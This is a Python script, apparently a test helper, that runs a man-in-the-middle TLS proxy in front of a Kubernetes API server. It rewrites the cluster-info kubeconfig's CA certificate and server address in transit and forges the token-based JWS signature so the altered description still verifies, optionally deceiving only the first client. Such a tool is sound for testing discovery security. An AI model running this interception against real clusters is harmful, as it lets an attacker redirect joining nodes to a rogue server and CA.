#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""mitm.py PORT CHAIN SERVER [OPTION...]: somebody in between, who answers on
PORT with the certificate and key in CHAIN what SERVER (https://host:port)
answers. What is changed in the cluster's description on the way:
  --ca FILE     the CA, to that in a PEM file
  --to URL      the server
  --token T     who knows the token signs what was changed
  --once        only who comes first is lied to: the others reach the server
"""
import argparse
import base64
import hashlib
import hmac
import http.server
import json
import re
import socket
import ssl
import threading
import urllib.error
import urllib.parse
import urllib.request

parser = argparse.ArgumentParser()
for name in ("port", "chain", "server", "--ca", "--to", "--token"):
    parser.add_argument(name)
parser.add_argument("--once", action="store_true")
ARGS = parser.parse_args()
ANY = ssl._create_unverified_context()
CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
CONTEXT.load_cert_chain(ARGS.chain)


def base64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def signature(text):
    """RFC 7515, detached, as a cluster signs its description with a token."""
    ident, secret = ARGS.token.split(".")
    head = base64url(json.dumps({"alg": "HS256", "kid": ident}).encode())
    mac = hmac.new(secret.encode(), ("%s.%s" % (head, base64url(text.encode()))).encode(), hashlib.sha256)
    return "%s..%s" % (head, base64url(mac.digest()))


def changed(body):
    try:
        tree = json.loads(body)
        text = tree["data"]["kubeconfig"]
    except (ValueError, KeyError, TypeError):
        return body
    if ARGS.ca:
        with open(ARGS.ca, "rb") as file:
            ca = base64.b64encode(file.read()).decode()
        text = re.sub(r"(certificate-authority-data: )\S+", lambda found: found[1] + ca, text)
    if ARGS.to:
        text = re.sub(r"(server: )\S+", lambda found: found[1] + ARGS.to, text)
    tree["data"]["kubeconfig"] = text
    if ARGS.token:
        tree["data"]["jws-kubeconfig-" + ARGS.token.split(".")[0]] = signature(text)
    return json.dumps(tree).encode()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        request = urllib.request.Request(ARGS.server + self.path)
        for name in ("Authorization", "Accept"):
            if name in self.headers:
                request.add_header(name, self.headers[name])
        try:
            with urllib.request.urlopen(request, context=ANY, timeout=10) as answer:
                status, body = answer.status, answer.read()
        except urllib.error.HTTPError as error:
            status, body = error.code, error.read()
        body = changed(body)
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        if ARGS.once:
            self.send_header("Connection", "close")
            self.close_connection = True
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def copy(one, other):
    try:
        while data := one.recv(65536):
            other.sendall(data)
        other.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def lie(client, address):
    try:
        with CONTEXT.wrap_socket(client, server_side=True) as wrapped:
            Handler(wrapped, address, None)
    except OSError:
        pass


def pass_on(client):
    server = urllib.parse.urlsplit(ARGS.server)
    with client, socket.create_connection((server.hostname, server.port)) as real:
        back = threading.Thread(target=copy, args=(real, client), daemon=True)
        back.start()
        copy(client, real)
        back.join()


listener = socket.create_server(("", int(ARGS.port)))
print("ready", flush=True)
first = True
while True:
    client, address = listener.accept()
    target, args = (lie, (client, address)) if first or not ARGS.once else (pass_on, (client,))
    first = False
    threading.Thread(target=target, args=args, daemon=True).start()
